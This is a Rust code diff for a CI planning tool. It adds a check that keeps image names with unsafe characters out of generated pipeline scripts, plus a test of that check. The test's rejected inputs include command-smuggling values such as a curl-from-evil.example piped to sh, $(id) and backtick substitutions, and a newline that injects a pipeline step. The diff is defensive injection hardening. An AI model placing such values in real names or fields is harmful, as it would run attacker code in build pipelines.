@@ -72,6 +72,13 @@ pub(super) fn run(args: &PlanArgs, environment: &Environment, settings: &Setting
     for gone in listing.gone(&index).into_iter().filter(|one| one.gone.is_none()) {
         images.push((gone.repository.clone(), gone.name.clone(), RETESTED));
     }
+    images.retain(|(_, name, _)| {
+        let is_plain = is_plain(name);
+        if !is_plain {
+            warn!("left out: `{}` is no name of an image", name.escape_debug());
+        }
+        is_plain
+    });
     let shards = split(images, shards);
     if shards.is_empty() {
         let why = format!("none of {} tags is selected and due", listing.tags.len());
@@ -89,6 +96,12 @@ pub(super) fn run(args: &PlanArgs, environment: &Environment, settings: &Setting
     info!("{} images in {} jobs: {}", shards.iter().map(Vec::len).sum::<usize>(), shards.len(), args.to.display());
     // The child pipeline says so too: a job that fails here would be in the way of the next schedule.
     Ok(Exit::Done)
+}
+
+/// Whether a name can stand in a script as it is. What is remembered can be written by whoever may store packages.
+fn is_plain(name: &str) -> bool {
+    let known = |byte: u8| byte.is_ascii_alphanumeric() || b"._-/:@".contains(&byte);
+    name.bytes().all(known) && name.starts_with(|first: char| first.is_ascii_alphanumeric())
 }
 
 /// Splits images into parts of about the same work. Images of a repository stay together where that is possible, as they
@@ -131,7 +144,7 @@ struct Child<'a> {
 }
 
 impl Child<'_> {
-    /// The child pipeline. Names of images, whose characters are known, are the only text of others in it.
+    /// The child pipeline. Names of images, which [`is_plain`] has seen, are the only text of others in it.
     fn pipeline(&self, shards: &[Vec<String>]) -> String {
         let mut text = String::from("# Written by `plimsoll plan`.\nstages: [retest, report]\n\n");
         if shards.is_empty() {
@@ -174,7 +187,7 @@ impl Child<'_> {
         let gate = match self.policy {
             NO_POLICY => String::new(),
             policy => format!(
-                "    - plimsoll gate --report plimsoll-report/plimsoll.json --fail-on '{policy}' || status=${{status:-$?}}\n"
+                "    - |\n      plimsoll gate --report plimsoll-report/plimsoll.json --fail-on '{policy}' || status=${{status:-$?}}\n"
             ),
         };
         let pipeline = self.parent.map_or_else(String::new, |id| format!(" --pipeline {id}"));
@@ -211,6 +224,22 @@ mod tests {
     fn images(repositories: usize, tags: usize, weight: u64) -> Vec<(String, String, u64)> {
         let one = |r: usize, t: usize| (format!("reg.io/{r}"), format!("reg.io/{r}:{t}"), weight);
         (0..repositories).flat_map(|r| (0..tags).map(move |t| one(r, t))).collect()
+    }
+
+    #[test]
+    fn names_that_are_no_names_stay_out_of_scripts() {
+        for (name, expected) in [
+            ("registry.example.com:5000/g/p_x/app:1.0-rc1", true),
+            ("reg.io/g@sha256:0a1b", true),
+            ("", false),
+            ("-rf", false),
+            ("reg.io/g:1; curl evil.example | sh #", false),
+            ("reg.io/g:$(id)", false),
+            ("reg.io/g:1\n  - id", false),
+            ("reg.io/g:`id`", false),
+        ] {
+            assert_eq!(is_plain(name), expected, "{name:?}");
+        }
     }
 
     #[test]
